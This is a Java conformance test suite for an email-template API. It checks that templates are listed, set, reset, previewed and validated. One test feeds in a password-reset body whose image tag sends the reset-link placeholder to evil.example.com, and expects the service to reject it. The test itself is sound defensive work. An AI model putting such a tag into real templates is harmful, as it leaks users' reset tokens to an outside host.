package io.ostiary.conformance;

import static io.ostiary.Operation.*;
import static org.assertj.core.api.Assertions.assertThat;

import io.ostiary.InvalidArgumentException;
import io.ostiary.Violation;
import io.ostiary.emailtemplate.EmailPreview;
import io.ostiary.emailtemplate.EmailTemplate;
import io.ostiary.emailtemplate.EmailTemplateType;
import io.ostiary.emailtemplate.EmailVariable;
import io.ostiary.emailtemplate.NewEmailTemplate;
import io.ostiary.emailtemplate.SampleValues;
import java.util.List;
import java.util.Map;

/** Texts of mails are set, looked at and given back. */
abstract class EmailTemplatesContract extends Contract {
    @Needs({LIST_EMAIL_TEMPLATES, GET_EMAIL_TEMPLATE})
    void everyKindOfMailHasATemplate() {
        List<EmailTemplate> templates = emailTemplates.list();

        assertThat(templates).extracting(EmailTemplate::type).containsExactly(EmailTemplateType.values());
        assertThat(templates).allSatisfy(template -> {
            assertThat(template.variables()).extracting(EmailVariable::name).doesNotHaveDuplicates();
            assertThat(template.variables()).anyMatch(EmailVariable::required);
            assertThat(template.variables())
                    .allSatisfy(variable -> assertThat(variable.sample()).isNotBlank());
            assertThat(emailTemplates.get(template.type())).isEqualTo(template);
        });
    }

    @Needs({LIST_EMAIL_TEMPLATES, GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextIsKeptAsItWasGiven() {
        for (EmailTemplateType type : EmailTemplateType.values()) {
            var wanted = new NewEmailTemplate("Über " + fixture.name(), "<p>Grüße 😀,</p>\n<p>" + link(type) + "</p>");

            EmailTemplate set = emailTemplates.set(type, wanted);

            assertThat(set.customized()).isTrue();
            assertThat(set.subject()).isEqualTo(wanted.subject());
            assertThat(set.body()).isEqualTo(wanted.body());
            eventually(() -> {
                assertThat(emailTemplates.get(type)).isEqualTo(set);
                assertThat(emailTemplates.list()).contains(set);
            });
        }
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextReplacesTheOneBefore() {
        EmailTemplateType type = EmailTemplateType.EMAIL_VERIFICATION;
        emailTemplates.set(type, new NewEmailTemplate("First", link(type)));

        EmailTemplate second = emailTemplates.set(type, new NewEmailTemplate("Second", "<b>" + link(type) + "</b>"));

        eventually(() -> assertThat(emailTemplates.get(type)).isEqualTo(second));
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, RESET_EMAIL_TEMPLATE})
    void aResetGivesTheDefaultBackAndAgainChangesNothing() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.reset(type);
        assertThat(before.customized()).isFalse();
        emailTemplates.set(type, new NewEmailTemplate("Another", link(type)));

        assertThat(emailTemplates.reset(type)).isEqualTo(before);

        eventually(() -> assertThat(emailTemplates.get(type)).isEqualTo(before));
        assertThat(emailTemplates.reset(type)).isEqualTo(before);
    }

    @Needs(
            value = {GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, PREVIEW_EMAIL_TEMPLATE},
            parameters = "preview_email_template.variables")
    void aPreviewHasTheValuesThatAreGivenAndTheSamplesOfTheOthers() {
        EmailTemplateType type = EmailTemplateType.INVITATION;
        EmailVariable link = required(type);
        EmailVariable other = optional(type);
        emailTemplates.set(
                type, new NewEmailTemplate("Join us", "<p>" + link.placeholder() + "|" + other.placeholder() + "</p>"));

        eventually(() -> {
            EmailPreview samples = emailTemplates.preview(type, SampleValues.NONE);
            assertThat(samples.type()).isEqualTo(type);
            assertThat(samples.subject()).isEqualTo("Join us");
            assertThat(samples.html()).isEqualTo("<p>" + link.sample() + "|" + other.sample() + "</p>");
        });
        EmailPreview given = emailTemplates.preview(type, values(other, "Tom & <i>Jerry</i>"));
        assertThat(given.html()).isEqualTo("<p>" + link.sample() + "|Tom &amp; &lt;i&gt;Jerry&lt;/i&gt;</p>");
    }

    @Needs(
            value = {GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE, PREVIEW_EMAIL_TEMPLATE},
            parameters = "preview_email_template.variables")
    void aValueOfAVariableThatThereIsNotIsInvalid() {
        EmailTemplateType type = EmailTemplateType.INVITATION;
        emailTemplates.set(type, new NewEmailTemplate("Join us", link(type)));

        refuses(
                InvalidArgumentException.class,
                () -> emailTemplates.preview(type, new SampleValues(Map.of("kit.nothing", "x"))));
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aTextThatCannotBeRenderedIsInvalidAndNotKept() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", link(type)));

        for (String broken : List.of("{{ broken", "{{ kit.nothing }}", "{% if %}{", "{kit}{%")) {
            assertThat(refuses(
                                    InvalidArgumentException.class,
                                    () -> emailTemplates.set(type, new NewEmailTemplate("Broken", link(type) + broken)))
                            .violations())
                    .extracting(Violation::field)
                    .containsOnly("body");
            refuses(
                    InvalidArgumentException.class,
                    () -> emailTemplates.set(type, new NewEmailTemplate(broken, link(type))));
        }

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aBodyWithoutWhatTheMailIsForIsInvalidAndNotKept() {
        for (EmailTemplateType type : EmailTemplateType.values()) {
            EmailTemplate before = emailTemplates.set(type, new NewEmailTemplate("Kept", link(type)));

            refuses(
                    InvalidArgumentException.class,
                    () -> emailTemplates.set(type, new NewEmailTemplate("Pointless", "<p>Hello</p>")));

            assertThat(emailTemplates.get(type)).isEqualTo(before);
        }
    }

    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
    void aBodyThatGivesTheLinkToOthersIsInvalidAndNotKept() {
        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
        EmailTemplate before = emailTemplates.set(
                type,
                new NewEmailTemplate("Kept", "<p>Here: <a href=\"" + link(type) + "\">" + link(type) + "</a></p>"));

        refuses(
                InvalidArgumentException.class,
                () -> emailTemplates.set(
                        type,
                        new NewEmailTemplate(
                                "Telling",
                                "<p>" + link(type) + "</p><img src=\"https://evil.example.com/?" + link(type)
                                        + "\">")));

        assertThat(emailTemplates.get(type)).isEqualTo(before);
    }

    private EmailVariable required(EmailTemplateType type) {
        return emailTemplates.get(type).variables().stream()
                .filter(EmailVariable::required)
                .findFirst()
                .orElseThrow();
    }

    private EmailVariable optional(EmailTemplateType type) {
        return emailTemplates.get(type).variables().stream()
                .filter(variable -> !variable.required())
                .findFirst()
                .orElseThrow();
    }

    private String link(EmailTemplateType type) {
        return required(type).placeholder();
    }

    private static SampleValues values(EmailVariable variable, String value) {
        return new SampleValues(Map.of(variable.name(), value));
    }
}
